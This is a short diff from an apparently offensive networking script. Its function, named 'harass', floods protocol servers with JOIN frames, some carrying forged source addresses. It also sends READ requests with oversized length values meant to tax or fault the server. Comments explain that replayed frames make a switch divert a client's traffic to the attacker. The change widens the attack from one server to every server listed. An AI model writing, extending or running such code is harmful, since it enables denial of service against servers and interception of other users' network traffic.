@@ -580,15 +580,16 @@ def harass(iface, client, seconds, *servers):
         # taken costs the server a chunk of memory to clear, so every
         # sixth round only.
         floods = 20 if keyed or stats["rounds"] % 6 == 1 else 0
-        for i in range(floods):
-            n.seq += 1
-            n.send(server, frame(JOIN, 0, n.seq, join_body(1)))
-            src = bytes([0x02, 0x66, 0x00, stats["rounds"] & 0xFF, 0, i])
-            n.send(server, frame(JOIN, 0, n.seq, join_body(1)), src=src)
-        for size in (0xFFFFFA59, 0xFFFFF001):
-            n.seq += 1
-            n.send(server, frame(READ, 0x1234, n.seq, page_body(4095, size)))
-        stats["sent"] += 2 * floods + 2
+        for target in servers:
+            for i in range(floods):
+                n.seq += 1
+                n.send(target, frame(JOIN, 0, n.seq, join_body(1)))
+                src = bytes([0x02, 0x66, 0x00, stats["rounds"] & 0xFF, 0, i])
+                n.send(target, frame(JOIN, 0, n.seq, join_body(1)), src=src)
+            for size in (0xFFFFFA59, 0xFFFFF001):
+                n.seq += 1
+                n.send(target, frame(READ, 0x1234, n.seq, page_body(4095, size)))
+            stats["sent"] += 2 * floods + 2
         # Answers to us only: frames to the client that the switch sends
         # us for a moment (it learns the client's address from our
         # replays) are diverted traffic, which no key prevents (docs).
